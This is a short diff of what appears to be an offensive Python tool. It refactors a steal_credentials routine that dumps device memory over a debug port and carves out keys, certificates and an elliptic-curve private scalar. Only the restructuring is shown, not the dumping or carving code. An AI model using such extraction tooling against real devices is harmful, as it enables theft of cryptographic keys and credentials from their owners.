@@ -36,14 +36,20 @@ def steal_credentials(port: DebugPort, time_ns: int, public_key: ec.EllipticCurv
     loot = Loot()
     for region in REGIONS:
         data, evidence = dump(port, region, time_ns)
-        keys, certificates = carve(data, region)
-        if public_key is not None and region != "flash":
-            scalar = carve_scalar(data, public_key, region)
-            keys += [scalar] if scalar is not None else []
-        loot.evidence.append(evidence)
-        loot.keys += keys
-        loot.certificates += certificates
+        found = search(data, region, evidence, public_key)
+        loot.evidence += found.evidence
+        loot.keys += found.keys
+        loot.certificates += found.certificates
     return loot
+
+
+def search(data: bytes, region: str, evidence: Evidence, public_key: ec.EllipticCurvePublicKey | None = None) -> Loot:
+    """Carve one dumped region; ``evidence`` is that of the dump."""
+    keys, certificates = carve(data, region)
+    if public_key is not None and region != "flash":
+        scalar = carve_scalar(data, public_key, region)
+        keys += [scalar] if scalar is not None else []
+    return Loot([evidence], keys, certificates)
 
 
 def set_protection(port: DebugPort, level: int, time_ns: int) -> Evidence:
